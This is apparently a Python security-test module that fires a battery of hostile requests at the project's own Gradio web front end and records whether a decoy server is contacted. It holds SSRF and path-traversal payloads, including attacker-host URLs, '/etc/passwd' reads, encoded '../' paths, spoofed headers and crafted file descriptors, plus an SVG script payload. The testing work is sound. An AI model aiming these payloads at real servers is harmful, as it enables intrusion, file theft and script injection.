"""Requests as strangers write them: bytes on a socket, and names of files that lead elsewhere.

As a program, in a network of its own: starts a web server at a public address and the page beside it, sends the page
everything that might make it ask that server, and prints what the server heard:
`python -m tests.bot.frontends.web.strangers FOLDER ADDRESS`.
"""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

from tests.bot.frontends.web.conftest import DEFAULTS, session_at, start_in

PICTURE = "pictures/0123456789abcdef0123456789abcdef/7.png"
SOURCE = 5  # which value of the form is the picture to start from
PREFIXES = ("/gradio_api/file=", "/gradio_api/file%3D", "/gradio_api//file=", "/gradio_api/proxy=")
SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"


def names_of(host: str) -> list[str]:
    """What might stand behind `file=` so that the page asks `host`, or reads a file."""
    evil = f"http://{host}"
    return [
        f"{evil}/x.svg",
        f"{evil}/{PICTURE.replace('7.png', '%D9%A1.png')}",  # an Arabic digit, which \d fits
        f"{evil}/{PICTURE}%0A",
        f"{evil}/{PICTURE}%00",
        f"{evil}/{PICTURE};x",
        f"{evil}/{PICTURE}/",
        f"{evil}/a/{PICTURE}",
        f"{evil}/{PICTURE.replace('pictures', '../pictures')}",
        f"{evil}//{PICTURE}",
        f"{evil}%5C{PICTURE}",
        f"http:%5C%5C{host}/{PICTURE}",
        f"http:/{host}/{PICTURE}",
        f"http:///{PICTURE}",
        f"http://user@{host}/{PICTURE}",
        f"http://127.0.0.1@{host}/{PICTURE}",
        f"HTTP://{host}/{PICTURE}",
        f"ftp://{host}/{PICTURE}",
        f"file:///{PICTURE}",
        f"data:image/svg+xml,{PICTURE}",
        f"//{host}/{PICTURE}",
        f"%2F%2F{host}/{PICTURE}",
        f"%5C%5C{host}/{PICTURE}",
        f"{evil}/{PICTURE.replace('7.png', '7.PNG')}",
        f"{evil}/{PICTURE.replace('7.png', '7.svg')}",
        f"{evil}/{PICTURE.replace('7.png', '9' * 5000 + '.png')}",
        f"{evil}/{PICTURE.replace('7.png', '-7.png')}",
        f"{evil.replace('http', 'h%74tp')}/x.svg",
        "/etc/passwd",
        "..",
        "..%2Fx.png",
        ".hidden.png",
        "C:x.png",
        "",
    ]


async def ask(
    url: str,
    method: str,
    path: str,
    body: bytes = b"",
    *,
    headers: Sequence[tuple[str, str]] = (),
    kind: str = "application/json",
) -> tuple[int, str]:
    """Send bytes as they are, without a client that knows better; the status and the answer."""
    host = url.removeprefix("http://").rstrip("/")
    given = {name.lower() for name, _ in headers}
    usual = [("Host", host), ("Content-Type", kind), ("Content-Length", str(len(body))), ("Connection", "close")]
    lines = [
        f"{name}: {value}" for name, value in [*(each for each in usual if each[0].lower() not in given), *headers]
    ]
    reader, writer = await asyncio.open_connection(*host.split(":"))
    writer.write("\r\n".join([f"{method} {path} HTTP/1.1", *lines, "", ""]).encode("latin-1") + body)
    async with asyncio.timeout(10):
        answer = (await reader.read()).decode(errors="replace")
    writer.close()
    await writer.wait_closed()
    head, _, text = answer.partition("\r\n\r\n")
    return int(head.split()[1]), text


def files_of(host: str, uploads: Path) -> Iterator[dict[str, Any]]:
    """What a browser might say that it has uploaded, so that the page fetches it from `host`."""
    meta = {"_type": "gradio.FileData"}
    for path in (
        f"http://{host}/x.png",
        f"http://{host}/..{uploads}/x.png",
        f"http://{host}/../../../../../../../../..{uploads}/x.png",
        f"HTTP://{host}/..{uploads}/x.png",
        f"http:/{host}/..{uploads}/x.png",
        f"//{host}/x.png",
        f"{uploads}/http://{host}/x.png",
        "x.png",
    ):
        yield {"path": path, "meta": meta}
        yield {"path": path}
        yield {"path": path, "url": f"http://{host}/url.png", "meta": meta}
        yield {"path": path, "url": f"http://{host}/url.png", "meta": meta, "is_stream": True}
    yield {"url": f"http://{host}/url.png", "meta": meta}
    yield {"path": None, "url": f"http://{host}/url.png", "meta": meta}


async def attack(url: str, host: str, uploads: Path) -> int:
    """Send all of it, and return how many requests that were."""
    count = 0
    for method in ("GET", "HEAD", "OPTIONS"):
        for prefix in PREFIXES:
            for name in names_of(host):
                await ask(url, method, f"{prefix}{name}")
                count += 1
    for headers in ([("X-Forwarded-Host", host)], [("X-Gradio-Server", f"http://{host}")], [("Host", host)]):
        for path in ("/", "/config", "/gradio_api/info", f"/gradio_api/proxy=http://{host}/x"):
            await ask(url, "GET", path, headers=headers)
            count += 1
    await ask(url, "GET", f"http://{host}/")
    for file in files_of(host, uploads):
        for value in (file, [file], {"deep": {"deeper": [file]}}, json.dumps(file), {json.dumps(file): 1}):
            for place in (0, SOURCE, 8):
                data = [*DEFAULTS[:place], value, *DEFAULTS[place + 1 :]]
                body = json.dumps({"data": data, "fn_index": 0, "session_hash": "x"}).encode()
                for path in ("/gradio_api/run/predict", "/gradio_api/queue/join"):
                    await ask(url, "POST", path, body)
            for place in (0, 2):
                data = [*("x", 1, 1)[:place], value, *("x", 1, 1)[place + 1 :]]
                await ask(url, "POST", "/gradio_api/call/draw", json.dumps({"data": data}).encode())
            await ask(url, "POST", "/gradio_api/call/v2/draw", json.dumps({"prompt": value}).encode())
            count += 9
    return count + 1


async def main(folder: Path, address: str) -> None:
    """See the docstring of the module."""
    heard: list[str] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append((await reader.readline()).decode(errors="replace").strip())
        head = f"HTTP/1.1 200 OK\r\nContent-Type: image/svg+xml\r\nContent-Length: {len(SCRIPT)}\r\n"
        writer.write(f"{head}Connection: close\r\n\r\n".encode() + SCRIPT)
        await writer.drain()
        writer.close()

    async with await asyncio.start_server(hear, address, 80), start_in(folder, is_guarded=False)() as page:
        count = await attack(page.url, address, folder / "data" / "uploads")
        async with session_at(page.url) as person:  # and now that nothing is left to be done
            await person.draw("[step=0] the last one")
            await person.wait_for_pictures(1)
        while_attacked = list(heard)
        await ask(f"http://{address}:80", "GET", "/control")
        lines = [line for line in page.lines if "Traceback" in line]
    found = {"asked": count, "heard": while_attacked, "control": heard[len(while_attacked) :], "lines": lines}
    sys.stdout.write(json.dumps(found) + "\n")


if __name__ == "__main__":
    asyncio.run(main(Path(sys.argv[1]), sys.argv[2]))
